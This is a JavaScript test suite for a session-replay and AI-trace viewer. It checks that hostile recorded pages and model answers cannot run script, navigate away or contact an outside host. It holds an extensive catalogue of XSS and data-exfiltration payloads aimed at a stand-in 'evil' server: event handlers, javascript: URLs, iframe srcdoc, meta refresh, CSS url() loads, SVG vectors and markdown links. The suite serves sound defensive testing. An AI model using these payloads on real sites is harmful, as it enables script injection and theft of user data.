// Hostile recordings and answers: they cannot run a script, leave the page or reach another server.
import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { describe, it } from 'node:test'
import { guarded, markup, run } from '../lib/guard.js'
import { capture } from '../lib/playhead.js'
import { element, firstPicture, generation, mouse, mutation, snapshot, svg } from '../lib/recording.js'
import { eventually, openTrace, picture, play, playerTime, screen } from '../lib/ui.js'

export function hostile(env) {
  describe('hostile input runs nothing and reaches nobody', { concurrency: 2 }, () => {
    it('in a recording', { timeout: 90_000 }, () => guarded(env, recording))
    it('in an answer', { timeout: 90_000 }, () => guarded(env, answer))
  })
}

/** Elements that run scripts or load things, for a recorded page. `where` is in their addresses, so that requests show where they come from. */
function payloads(evil, where) {
  const to = (name) => `${evil}/${where}/${name}`
  return [
    element('script', {}, run),
    element('script', { src: to('script.js') }),
    element('img', { src: to('img.png'), onerror: run, srcset: `${to('srcset.png')} 2x` }),
    element('img', { src: 'data:,broken', onerror: run }),
    element('body', { onload: run, onpageshow: run }),
    element('a', { href: `javascript:${run}`, id: `link-${where}` }, 'a link'),
    element('a', { href: to('ping'), ping: to('pinged'), target: '_top' }, 'leave'),
    element('iframe', { src: to('frame.html') }),
    element('iframe', { srcdoc: `<script>${run}</script><img src="${to('srcdoc.png')}">` }),
    element('iframe', { src: `javascript:${run}`, rr_src: to('rr-src.html') }),
    element('object', { data: to('object.swf'), type: 'text/html' }),
    element('embed', { src: to('embed.swf') }),
    element('form', { action: to('form'), method: 'post', target: '_top' },
      element('input', { name: 'q', autofocus: true, onfocus: run, value: 'secret' }),
      element('button', { type: 'submit', formaction: to('formaction') }, 'submit')),
    element('style', {}, `@import url(${to('import.css')}); body { background: url(${to('background.png')}) } @font-face { font-family: f; src: url(${to('font.woff2')}) } * { font-family: f }`),
    element('style', { _cssText: `p::before { content: url(${to('csstext.png')}) } a[href] { background: image-set("${to('image-set.png')}" 1x) }` }),
    element('link', { rel: 'stylesheet', href: to('link.css') }),
    element('link', { rel: 'preload', as: 'image', href: to('preload.png') }),
    element('link', { rel: 'prefetch', href: to('prefetch') }),
    element('link', { rel: 'dns-prefetch', href: evil }),
    element('link', { rel: 'icon', href: to('icon.png') }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${to('refresh')}` }),
    element('meta', { 'http-equiv': 'Content-Security-Policy', content: "default-src *; script-src 'unsafe-inline' *" }),
    element('base', { href: `${evil}/${where}/`, target: '_top' }),
    element('p', { style: `background: url(${to('style.png')}); cursor: url(${to('cursor.cur')}), auto`, onmouseover: run, onclick: run }, 'hover over me'),
    element('video', { src: to('video.mp4'), poster: to('poster.png'), autoplay: true, onloadstart: run, rr_mediaState: 'played' }),
    element('audio', { src: to('audio.mp3'), autoplay: true }, element('source', { src: to('source.mp3'), onerror: run })),
    element('details', { open: true, ontoggle: run }, 'details'),
    element('canvas', { rr_dataURL: to('canvas.png') }),
    element('img', { rr_dataURL: to('rr-data.png'), src: to('rr-src.png') }),
    element('template', {}, element('img', { src: to('template.png') })),
    svg('svg', { onload: run },
      svg('script', {}, run),
      svg('script', { href: to('svg.js') }),
      svg('image', { href: to('svg-image.png'), 'xlink:href': to('svg-xlink.png') }),
      svg('use', { href: `${to('sprite.svg')}#x` }),
      svg('animate', { attributeName: 'href', values: `javascript:${run}`, onbegin: run }),
      svg('foreignObject', {}, element('iframe', { srcdoc: `<script>${run}</script>` })),
      svg('a', { href: `javascript:${run}` }, svg('text', {}, 'svg link'))),
  ]
}

async function recording({ page, playhead, evil }) {
  const [session, window] = [`hostile-${randomUUID()}`, randomUUID()]
  const at = Date.now() - 60_000
  const body = element('body', { onload: run }, element('h1', {}, 'An honest heading'), ...payloads(evil, 'first'))
  const added = payloads(evil, 'added')
  await capture(playhead, [snapshot(session, window, [
    ...firstPicture(at, payloads(evil, 'head'), body, `${evil}/page`),
    mouse(at + 500, 50, 50),
    mutation(at + 1000, { adds: added.map((node) => ({ parentId: body.id, nextId: null, node })) }),
    mutation(at + 1500, {
      attributes: [{ id: body.childNodes[0].id, attributes: { onclick: run, style: { background: `url(${evil}/attribute.png)` } } }],
      texts: [{ id: body.childNodes[0].childNodes[0].id, value: '<img src=x onerror="' + run + '"> is only text' }],
    }),
    { type: 3, data: { source: 8, id: body.id, adds: [{ rule: `body { background: url(${evil}/rule.png) }`, index: 0 }] }, timestamp: at + 1800 },
    { type: 3, data: { source: 10, family: 'f', fontSource: `${evil}/font-face.woff2`, buffer: false }, timestamp: at + 1900 },
    { type: 3, data: { source: 15, id: body.id, styles: [{ styleId: 1, rules: [{ rule: `h1 { background: url(${evil}/adopted.png) }`, index: 0 }] }], styleIds: [1] }, timestamp: at + 2000 },
    { type: 5, data: { tag: '<img src=x onerror=' + run + '>', payload: { href: `javascript:${run}` } }, timestamp: at + 2100 },
    { type: 6, data: { plugin: 'rrweb/console@1', payload: { level: 'log', trace: [`<script>${run}</script>`], payload: [`"<img src=${evil}/console.png>"`] } }, timestamp: at + 2200 },
    mouse(at + 6000, 60, 60),
  ])], '/s/')

  await page.goto(`${playhead.url}/sessions/${session}?t=${at}`)
  await picture(page)
  assert.match(await screen(page), /An honest heading/)
  await play(page)
  await eventually('the player passes what was added', async () => await playerTime(page) > at + 2500)
  assert.match(await screen(page), /is only text/, 'the added nodes were replayed')
}

async function answer({ page, playhead, evil }) {
  const marker = `hostile ${randomUUID()}`
  const html = markup(evil)
  const output = `The answer begins.

![picture](${evil}/markdown.png) [click me](javascript:${encodeURIComponent(run)}) [data](data:text/html,<script>${run}</script>)
![ref][r] <javascript:${run}> [vb](vbscript:x)

[r]: ${evil}/reference.png

\`\`\`html
${html}
\`\`\`

${html}

The answer ends.`
  const events = [output, [{ type: 'text', text: output }], [{ type: 'image', image: `${evil}/part.png` }, { type: 'image_url', image_url: { url: `${evil}/image-url.png` } }, { type: 'text', text: 'The answer ends.' }]]
    .map((content) => generation(Date.now(), {
      trace: marker, input: `${marker} ${html}`, output: content,
      more: { $ai_model: `<img src=${evil}/model.png onerror=${run}>`, $ai_span_name: html, $ai_error: html, $ai_tools: [{ type: 'function', function: { name: html } }] },
    }))
  await capture(playhead, events)

  await openTrace(page, playhead, marker)
  const message = page.getByTestId('message').filter({ hasText: 'The answer ends.' })
  await message.first().waitFor()
  for (const link of await page.getByText(/click me|inline link/).all()) await link.click({ timeout: 2000, modifiers: ['Control'] }).catch(() => {})
  assert.equal(await page.locator('[data-testid=message] :is(script, iframe, style, meta, base, form, object, embed)').count(), 0)
}
